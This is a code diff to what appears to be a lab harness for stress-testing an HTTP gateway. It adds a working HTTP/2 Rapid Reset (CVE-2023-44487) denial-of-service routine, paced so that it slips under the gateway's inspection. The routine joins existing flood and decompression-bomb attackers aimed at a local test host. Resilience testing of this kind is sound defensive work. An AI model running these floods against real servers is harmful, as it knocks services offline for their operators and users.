@@ -7,10 +7,12 @@ import json
 import selectors
 import socket
 import ssl
+import struct
 import sys
 import time
 from collections.abc import Callable, Iterator
 from dataclasses import asdict, dataclass, field
+from itertools import count
 from pathlib import Path
 from typing import Self
 
@@ -18,7 +20,7 @@ import hpack
 
 from attacks import quic
 from attacks.bodies import bombs_of, held_windows, packed_answers
-from attacks.floods import END_HEADERS, END_STREAM, FLOODS, HEADERS, SETTINGS, bombs, frame
+from attacks.floods import END_HEADERS, END_STREAM, FLOODS, HEADERS, PING, SETTINGS, bombs, frame, resets
 
 SOURCE = "127.0.0.9"
 """Where attacks come from; a bystander is elsewhere."""
@@ -26,7 +28,10 @@ NAME = "shop.example"
 CROWD = 3_000
 """Connections that an attacker tries to hold."""
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+ACK = 1
 TRY_SECONDS = 2.0
+PACE = 50
+"""Requests that are reset at a time, below what may wait to be looked at."""
 SMALL = 536
 """The smallest segment that everybody takes (RFC 9293 section 3.7.1)."""
 _ASKED = [(":method", "GET"), (":scheme", "https"), (":authority", NAME), (":path", "/large")]
@@ -256,6 +261,40 @@ def windows(attacker: Attacker) -> None:
             attacker.got.closed += 1
 
 
+def paced_resets(attacker: Attacker) -> None:
+    """CVE-2023-44487, a few at a time: the next come once the gate has looked at these."""
+    while attacker.goes_on():
+        sock = attacker.secure("h2")
+        if sock is None:
+            time.sleep(0.05)  # sleep: the attack is to wait
+            continue
+        pairs = resets()
+        try:
+            sock.sendall(PREFACE + frame(SETTINGS))
+            for turn in count(1):
+                if not attacker.goes_on():
+                    attacker.got.held += 1
+                    break
+                mark = struct.pack(">Q", turn)
+                piece = b"".join(next(pairs) for _ in range(PACE)) + frame(PING, mark)
+                sock.sendall(piece)
+                attacker.got.sent += len(piece)
+                _await(sock, frame(PING, mark, ACK))
+        except OSError:
+            attacker.got.closed += 1
+        sock.close()
+
+
+def _await(sock: socket.socket, wanted: bytes) -> None:
+    """Reads until these bytes came."""
+    came = b""
+    while wanted not in came:
+        piece = sock.recv(65536)
+        if not piece:
+            raise ConnectionResetError
+        came = came[-len(wanted) :] + piece
+
+
 ATTACKERS: dict[str, Callable[[Attacker], None]] = {
     each.__name__.replace("_", " "): each
     for each in (
@@ -266,6 +305,7 @@ ATTACKERS: dict[str, Callable[[Attacker], None]] = {
         connections,
         handshakes,
         windows,
+        paced_resets,
         packed_answers,
         held_windows,
     )
@@ -274,7 +314,7 @@ for _coding in ("gzip", "br", "zstd"):
     ATTACKERS[f"bombs of {_coding}"] = bombs_of(_coding)
 ATTACKERS["initials"] = quic.initials
 ATTACKERS["quic handshakes"] = quic.quic_handshakes
-for _name, _flood in quic.FLOODS.items():
+for _name, (_flood, _) in quic.FLOODS.items():
     ATTACKERS[f"http3 {_name}"] = _flood
 ATTACKERS["header bombs"] = lambda attacker: attacker.flood(bombs)
 for _name, (_frames, _) in FLOODS.items():
